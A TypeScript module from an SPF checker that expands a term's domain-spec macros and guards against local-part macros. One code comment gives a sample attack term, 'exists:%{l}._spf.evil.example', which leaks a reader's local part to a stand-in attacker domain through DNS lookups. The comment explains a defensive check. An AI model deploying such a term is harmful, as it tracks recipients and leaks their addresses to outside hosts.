/** The name that a term is about: its domain-spec, expanded, or the domain in hand (RFC 7208 §4.8). */

import { isSevenBit } from '../bytes/ascii.ts';
import { type SpfContext, type SpfError, spfError } from './context.ts';
import type { MacroString } from './domain-spec.ts';
import { expandDomain, type MacroValues, usesLetter } from './macro.ts';
import { validatedNameFor } from './validated-names.ts';

/** Letters that hold the sender's local part. */
const LOCAL_PART_LETTERS = 'sl';

/** `name` null: the term matches nothing, because the local part cannot stand in a name (RFC 8616 §4). */
export type Target = { name: string | null } | { error: SpfError };

/**
 * @param spec null = the term names none
 * @param term as written, for an error
 * @param domain the domain whose record holds the term
 */
export async function targetName(
  context: SpfContext,
  spec: MacroString | null,
  term: string,
  domain: string,
): Promise<Target> {
  if (!spec) return { name: domain };
  if (usesLetter(spec, LOCAL_PART_LETTERS)) {
    if (!isSevenBit(context.subject.localPart)) return { name: null };
    // Attack: "exists:%{l}._spf.evil.example" makes the very question tell the sender's DNS who reads the message, and when.
    if (!context.subject.askLocalPart) {
      return { error: spfError('spf_temperror_local_part', term, domain) };
    }
  }
  return { name: expandDomain(spec, await macroValues(context, spec, domain)) };
}

/** What the macros of a text stand for; the client's name is looked up only when one of them wants it. */
export async function macroValues(context: SpfContext, parts: MacroString, domain: string): Promise<MacroValues> {
  const validatedName = usesLetter(parts, 'p') ? await validatedNameFor(context, domain) : 'unknown';
  return { ...context.subject, domain, validatedName };
}
